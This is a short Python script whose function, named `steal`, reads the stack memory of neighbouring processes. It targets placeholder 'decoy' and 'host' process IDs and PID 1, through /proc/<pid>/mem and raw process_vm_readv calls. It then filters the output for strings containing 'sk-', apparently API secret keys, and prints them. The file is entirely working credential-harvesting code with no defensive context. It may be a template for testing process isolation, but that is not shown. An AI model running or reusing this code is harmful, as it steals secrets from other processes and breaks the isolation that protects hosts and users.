import ctypes


class _IoVec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


def _stack(pid):
    with open("/proc/" + pid + "/maps") as handle:
        for line in handle:
            if line.rstrip().endswith("[stack]"):
                start, end = line.split()[0].split("-")
                return int(start, 16), int(end, 16)
    raise OSError("no stack")


def steal() -> str:
    """Read a neighbour's stack, where its environment lives."""
    libc = ctypes.CDLL(None, use_errno=True)
    found = []
    for pid in ("{DECOY_PID}", "{HOST_PID}", "1"):
        try:
            start, end = _stack(pid)
            with open("/proc/" + pid + "/mem", "rb") as handle:
                handle.seek(start)
                found.append(handle.read(end - start).decode("latin-1"))
        except (OSError, ValueError) as exc:
            found.append(pid + " mem: " + type(exc).__name__)
        try:
            start, end = _stack(pid)
            size = end - start
            buffer = ctypes.create_string_buffer(size)
            local = _IoVec(ctypes.cast(buffer, ctypes.c_void_p), size)
            remote = _IoVec(start, size)
            got = libc.process_vm_readv(int(pid), ctypes.byref(local), 1, ctypes.byref(remote),
                                        1, 0)
            found.append(pid + " vm_readv: " + str(got) + " errno " + str(ctypes.get_errno()))
            if got > 0:
                found.append(buffer.raw[:got].decode("latin-1"))
        except (OSError, ValueError) as exc:
            found.append(pid + " vm_readv: " + type(exc).__name__)
    text = "\n".join(part for part in found if "sk-" in part or len(part) < 200)
    print(text)
    return text
